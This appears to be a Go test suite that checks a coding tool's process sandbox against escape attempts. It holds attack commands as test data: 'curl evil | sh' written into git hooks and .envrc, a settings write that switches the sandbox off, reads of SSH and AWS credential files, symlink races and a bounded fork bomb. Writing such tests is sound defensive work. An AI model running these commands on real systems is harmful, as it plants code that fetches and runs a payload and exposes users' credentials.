package proc_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/agentls/agentls/internal/proc"
	"github.com/agentls/agentls/internal/testkit/need"
	"golang.org/x/sys/unix"
)

// Attacks on what the sandbox lets through rather than on what the policy
// names. Each runs unconfined first, where it must work, then sandboxed.

func write(t *testing.T, p, body string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
}

// A check or command that rewrites a module in the module cache must not
// reach the user's cache: the next `go run` elsewhere would run it
// unconfined. The sandbox shows the cache through a layer of its own.
func TestSandboxCachesAreCopyOnWrite(t *testing.T) {
	needSandbox(t)
	gomod := filepath.Join(outsideDir(t), "mod")
	lib := filepath.Join(gomod, "example.com", "lib@v1.0.0", "lib.go")
	const orig = "package lib\n\nfunc F() int { return 1 }\n"
	setup := func() {
		os.Chmod(filepath.Dir(lib), 0o755)
		write(t, lib, orig, 0o444)
		os.Chmod(filepath.Dir(lib), 0o555) // as go leaves it
	}
	t.Cleanup(func() { os.Chmod(filepath.Dir(lib), 0o755) })
	attack := fmt.Sprintf("chmod u+w %[1]s %[2]s && echo 'package lib // pwned' > %[2]s && cat %[2]s", filepath.Dir(lib), lib)
	env := append(os.Environ(), "GOMODCACHE="+gomod)

	setup()
	if r := run(t, proc.Spec{Shell: attack, Env: env, Dir: t.TempDir(), Sandbox: off}); r.ExitCode != 0 || !strings.Contains(r.Output, "pwned") {
		t.Fatalf("unconfined rewrite failed, the attack proves nothing: %+v", r)
	}
	setup()
	ws := goWorkspace(t)
	sb := confined()
	sb.CacheLayer = t.TempDir()
	settleWarm(t)
	r := run(t, proc.Spec{Shell: attack, Env: env, Dir: ws, Sandbox: sb})
	if b, _ := os.ReadFile(lib); string(b) != orig {
		t.Errorf("a sandboxed command rewrote the real module cache: %q (%+v)", b, r)
	}
	// The command itself saw its write (builds keep working), and the
	// next command of the same workspace sees it too.
	if r.ExitCode != 0 || !strings.Contains(r.Output, "pwned") {
		t.Errorf("the cache is not writable through its layer: %+v", r)
	}
	if r := run(t, proc.Spec{Shell: "cat " + lib, Env: env, Dir: ws, Sandbox: sb}); !strings.Contains(r.Output, "pwned") {
		t.Errorf("the layer did not persist for the workspace: %+v", r)
	}
}

// node_modules is bound through the checks' view from the disk; a
// sandboxed process swapping it for a symlink to a directory outside, as
// often as it can, must never get that directory mounted writable.
func TestSandboxViewThroughRacesNoSymlinkSwap(t *testing.T) {
	needSandbox(t)
	ws, out := t.TempDir(), outsideDir(t)
	nm, link := filepath.Join(ws, "node_modules"), filepath.Join(ws, "nm-link")
	if err := os.Mkdir(nm, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(out, link); err != nil {
		t.Fatal(err)
	}
	var stop atomic.Bool
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for !stop.Load() {
			_ = unix.Renameat2(unix.AT_FDCWD, nm, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
		}
	}()
	deadline := time.Now().Add(4 * time.Second)
	runs := 0
	var mu sync.Mutex
	var workers sync.WaitGroup
	for w := range 2 {
		workers.Add(1)
		go func() {
			defer workers.Done()
			for i := 0; time.Now().Before(deadline) && i < 200; i++ {
				cmd := fmt.Sprintf("echo x > node_modules/pwned-%d-%d 2>/dev/null; true", w, i)
				_, _ = proc.Run(t.Context(), proc.Spec{Shell: cmd, Dir: ws, Sandbox: proc.Sandbox{View: map[string][]byte{}, ViewThrough: []string{"node_modules"}}})
				mu.Lock()
				runs++
				mu.Unlock()
			}
		}()
	}
	workers.Wait()
	stop.Store(true)
	wg.Wait()
	entries, _ := os.ReadDir(out)
	if len(entries) > 0 {
		t.Errorf("%d of %d runs wrote outside the workspace through a swapped node_modules: %v", len(entries), runs, entries[0].Name())
	}
	t.Logf("%d runs", runs)
}

// The user's credentials and the workspace's secret files read as empty
// inside the sandbox; sandbox.denyRead adds to the list.
func TestSandboxMasksSecrets(t *testing.T) {
	needSandbox(t)
	home, ws, extra := outsideDir(t), t.TempDir(), outsideDir(t)
	files := map[string]string{}
	for i, rel := range []string{
		".ssh/id_ed25519", ".aws/credentials", ".gnupg/private-keys-v1.d/k.key", ".config/gh/hosts.yml",
		".netrc", ".docker/config.json", ".kube/config", ".local/share/keyrings/login.keyring",
		".bash_history", ".zsh_history", ".local/share/fish/fish_history", ".local/state/agentls/sessions/s.json",
		".config/agentls/x", ".git-credentials",
	} {
		files[filepath.Join(home, rel)] = fmt.Sprintf("SECRET-home-%d", i)
	}
	for i, rel := range []string{".env", ".env.local", ".git/config", "sub/server.pem", "deep/a/b/id_rsa", "sub/.git/config"} {
		files[filepath.Join(ws, rel)] = fmt.Sprintf("SECRET-ws-%d", i)
	}
	files[filepath.Join(extra, "token")] = "SECRET-extra"
	var paths []string
	for p, body := range files {
		if filepath.Base(p) == "config" && filepath.Base(filepath.Dir(p)) == ".git" {
			// Shown stripped of its credentials, not masked whole.
			body = "[remote \"origin\"]\n\turl = https://u:" + body + "@example.com/r.git\n[http]\n\textraheader = AUTHORIZATION: basic " + body
		}
		write(t, p, body+"\n", 0o600)
		paths = append(paths, p)
	}
	// A link in the workspace to a masked file reads the mask.
	if err := os.Symlink(filepath.Join(home, ".ssh", "id_ed25519"), filepath.Join(ws, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	paths = append(paths, filepath.Join(ws, "notes.txt"))
	cmd := "for f in " + strings.Join(paths, " ") + "; do cat \"$f\" 2>/dev/null; done; ls -A " + filepath.Join(home, ".ssh") + " " + filepath.Join(home, ".aws")
	env := append(os.Environ(), "HOME="+home)
	r := run(t, proc.Spec{Shell: cmd, Env: env, Dir: ws, Sandbox: off})
	if n := strings.Count(r.Output, "SECRET-"); n < len(paths) {
		t.Fatalf("unconfined read %d of %d secrets, the attack proves nothing: %s", n, len(paths), r.Output)
	}
	sb := confined()
	sb.DenyRead = append(sb.DenyRead, filepath.Join(extra, "token"))
	// sandbox.denyRead holds within declared paths: extra is declared,
	// its token masked; and so is the home, its credentials masked.
	sb.AllowRead = []string{extra, home}
	r = run(t, proc.Spec{Shell: cmd, Env: env, Dir: ws, Sandbox: sb})
	if strings.Contains(r.Output, "SECRET") || strings.Contains(r.Output, "id_ed25519") || strings.Contains(r.Output, "credentials") {
		t.Errorf("a sandboxed command read a secret:\n%s", r.Output)
	}
	// Git still works in a repository whose config is masked.
	repo := t.TempDir()
	if r := run(t, proc.Spec{Shell: "git init -q . && git remote add origin https://user:SECRET-token@example.com/r.git", Dir: repo, Sandbox: off}); r.ExitCode != 0 {
		need.Missing(t, "no git here: %s", r.Output)
	}
	r = run(t, proc.Spec{Shell: "git status --short && cat .git/config && git remote -v", Env: env, Dir: repo, Sandbox: sb})
	if r.ExitCode != 0 || strings.Contains(r.Output, "SECRET") || !strings.Contains(r.Output, "origin\thttps://example.com/r.git (fetch)") {
		t.Errorf("git in the sandbox: %+v", r)
	}
}

// The sandbox enforces every protected name at any depth, and a protected
// name that does not exist yet cannot be created.
func TestSandboxProtectsEveryNameAtAnyDepth(t *testing.T) {
	needSandbox(t)
	attacks := []struct{ name, cmd, check string }{
		{"append to .husky/pre-commit", "echo 'curl evil | sh' >> .husky/pre-commit", ".husky/pre-commit"},
		{"create .vscode/settings.json", `mkdir -p .vscode && echo '{"agentls.sandbox.mode":"off"}' > .vscode/settings.json`, ".vscode"},
		{"create .envrc", "echo 'curl evil | sh' > .envrc", ".envrc"},
		{"create .githooks", "mkdir -p .githooks && echo evil > .githooks/pre-commit", ".githooks"},
		{"create .pre-commit-config.yaml", "echo evil > .pre-commit-config.yaml", ".pre-commit-config.yaml"},
		{"create mise.toml", "echo evil > mise.toml", "mise.toml"},
		{"nested .git hook", "echo evil > sub/.git/hooks/pre-commit", "sub/.git/hooks/pre-commit"},
		{"nested .vscode", "echo evil >> pkg/.vscode/tasks.json", "pkg/.vscode/tasks.json"},
		{"replace .husky", "mv .husky .h && mkdir .husky && echo evil > .husky/pre-commit", ".husky/pre-commit"},
		{"workspace file", "echo evil > x.code-workspace", "x.code-workspace"},
	}
	setup := func(t *testing.T) string {
		ws := t.TempDir()
		write(t, filepath.Join(ws, ".husky", "pre-commit"), "npm test\n", 0o755)
		write(t, filepath.Join(ws, "sub", ".git", "hooks", "pre-commit"), "true\n", 0o755)
		write(t, filepath.Join(ws, "pkg", ".vscode", "tasks.json"), "{}\n", 0o644)
		write(t, filepath.Join(ws, "x.code-workspace"), "{}\n", 0o644)
		return ws
	}
	state := func(ws, rel string) string {
		b, err := os.ReadFile(filepath.Join(ws, rel))
		if _, serr := os.Lstat(filepath.Join(ws, rel)); serr != nil {
			return "absent"
		}
		return fmt.Sprintf("%q %v", b, err)
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			ws := setup(t)
			before := state(ws, a.check)
			if r := run(t, proc.Spec{Shell: a.cmd, Dir: ws, Sandbox: off}); r.ExitCode != 0 || state(ws, a.check) == before {
				t.Fatalf("unconfined attack failed, it proves nothing: %+v", r)
			}
			ws = setup(t)
			r := run(t, proc.Spec{Shell: a.cmd, Dir: ws, Sandbox: confined()})
			if after := state(ws, a.check); after != before || r.ExitCode == 0 {
				t.Errorf("sandboxed attack succeeded: %+v\nbefore %s\nafter  %s", r, before, after)
			}
			// Nothing is left behind: the placeholders are gone.
			entries, _ := os.ReadDir(ws)
			var names []string
			for _, e := range entries {
				names = append(names, e.Name())
			}
			if got := strings.Join(names, " "); got != ".husky pkg sub x.code-workspace" && !strings.HasPrefix(a.name, "replace") {
				t.Errorf("the workspace holds %s after the command", got)
			}
		})
	}
}

// A descriptor agentls inherited from whoever started it (open without
// close-on-exec) is not usable inside the sandbox.
func TestSandboxInheritsNoDescriptors(t *testing.T) {
	needSandbox(t)
	target := filepath.Join(outsideDir(t), "through-fd")
	fd, err := unix.Open(target, unix.O_RDWR|unix.O_CREAT|unix.O_APPEND, 0o644) // no O_CLOEXEC
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	// (bash: dash's >& takes one digit, and this process holds more.)
	cmd := fmt.Sprintf("exec bash -c 'echo pwned >&%d'", fd)
	if r := run(t, proc.Spec{Shell: cmd, Dir: t.TempDir(), Sandbox: off}); r.ExitCode != 0 {
		t.Fatalf("unconfined write through the descriptor failed, the attack proves nothing: %+v", r)
	}
	if err := unix.Ftruncate(fd, 0); err != nil {
		t.Fatal(err)
	}
	r := run(t, proc.Spec{Shell: cmd, Dir: t.TempDir(), Sandbox: confined()})
	if b, _ := os.ReadFile(target); len(b) > 0 || r.ExitCode == 0 {
		t.Errorf("wrote through an inherited descriptor: %q %+v", b, r)
	}
	// The same through Command (MCP servers).
	code, output := viaCommand(t, proc.Spec{Shell: cmd, Dir: t.TempDir(), Sandbox: confined()})
	if b, _ := os.ReadFile(target); len(b) > 0 || code == 0 {
		t.Errorf("Command: wrote through an inherited descriptor: %q exit %d %s", b, code, output)
	}
}

// A fork bomb (bounded here: 150 sleeping processes) stops at the
// sandbox's process limit.
func TestSandboxBoundsProcesses(t *testing.T) {
	needSandbox(t)
	const limit = 40
	// (The count is a glob: at the limit, the shell cannot fork.)
	cmd := `(i=0; while [ $i -lt 150 ]; do sleep 3 & i=$((i+1)); done) 2>/dev/null; set -- /proc/[0-9]*; echo $#`
	sb := confined()
	sb.MaxProcs = limit
	r := run(t, proc.Spec{Shell: cmd, Dir: t.TempDir(), Sandbox: sb, Timeout: 20 * time.Second})
	var n int
	fmt.Sscan(strings.TrimSpace(r.Output[strings.LastIndexAny(strings.TrimSpace(r.Output), "\n")+1:]), &n)
	if n == 0 || n > limit {
		t.Errorf("the sandbox ran %d processes at once (limit %d): %+v", n, limit, r)
	}
	t.Logf("%d processes at once", n)
}

// Commands of one workspace running at once each get a cache layer of
// their own (overlayfs must not share an upper directory): all can write.
func TestSandboxCacheLayersForConcurrentCommands(t *testing.T) {
	needSandbox(t)
	gomod, env := modCache(t)
	ws := goWorkspace(t)
	sb := confined()
	sb.CacheLayer = t.TempDir()
	settleWarm(t)
	var wg sync.WaitGroup
	results := make([]proc.Result, 3)
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = run(t, proc.Spec{Shell: fmt.Sprintf("echo %d > %s/new-%d && sleep 0.5 && cat %s/new-%d", i, gomod, i, gomod, i), Env: env, Dir: ws, Sandbox: sb})
		}()
	}
	wg.Wait()
	for i, r := range results {
		if r.ExitCode != 0 || strings.TrimSpace(r.Output) != fmt.Sprint(i) {
			t.Errorf("command %d: %+v", i, r)
		}
	}
	if entries, _ := os.ReadDir(gomod); len(entries) != 1 {
		t.Errorf("the real cache holds %d entries", len(entries))
	}
}

// Cache layers are per workspace: what one workspace's command writes to
// a cache, another workspace's command does not see.
func TestSandboxCacheLayersArePerWorkspace(t *testing.T) {
	needSandbox(t)
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	settleWarm(t)
	gomod, env := modCache(t)
	one, two := goWorkspace(t), goWorkspace(t)
	if r := run(t, proc.Spec{Shell: "echo planted > " + gomod + "/p", Env: env, Dir: one, Sandbox: confined()}); r.ExitCode != 0 {
		t.Fatalf("%+v", r)
	}
	if r := run(t, proc.Spec{Shell: "cat " + gomod + "/p", Env: env, Dir: one, Sandbox: confined()}); r.Output != "planted\n" {
		t.Errorf("the same workspace does not see its layer: %+v", r)
	}
	if r := run(t, proc.Spec{Shell: "cat " + gomod + "/p", Env: env, Dir: two, Sandbox: confined()}); r.ExitCode == 0 {
		t.Errorf("another workspace sees the first one's layer: %+v", r)
	}
}

// A cache whose layer cannot be made or mounted stays read-only; it
// never becomes writable as it is.
func TestSandboxCacheWithoutALayerIsReadOnly(t *testing.T) {
	needSandbox(t)
	gomod, env := modCache(t)
	real, _ := filepath.EvalSymlinks(gomod)
	sum := sha256.Sum256([]byte(real))
	broken := t.TempDir() // its upper directory is a file: the mount fails
	write(t, filepath.Join(broken, "0", hex.EncodeToString(sum[:6]), "u"), "", 0o644)
	for _, layer := range []string{"/proc/agentls-no-layer", broken} {
		sb := confined()
		sb.CacheLayer = layer
		r := run(t, proc.Spec{Shell: "echo pwned > " + filepath.Join(gomod, "keep"), Env: env, Dir: t.TempDir(), Sandbox: sb})
		if b, _ := os.ReadFile(filepath.Join(gomod, "keep")); string(b) != "k\n" || r.ExitCode == 0 {
			t.Errorf("layer %s: wrote the real cache: %q %+v", layer, b, r)
		}
	}
}

// goWorkspace is a workspace holding a go.mod: its Go caches are declared.
func goWorkspace(t *testing.T) string {
	t.Helper()
	ws := t.TempDir()
	write(t, filepath.Join(ws, "go.mod"), "module example.com/w\n\ngo 1.22\n", 0o644)
	return ws
}

// self lets sb run this test binary (a helper program): it is not
// declared otherwise.
func self(sb proc.Sandbox) proc.Sandbox {
	sb.AllowRead = append(sb.AllowRead, filepath.Dir(os.Args[0]))
	return sb
}
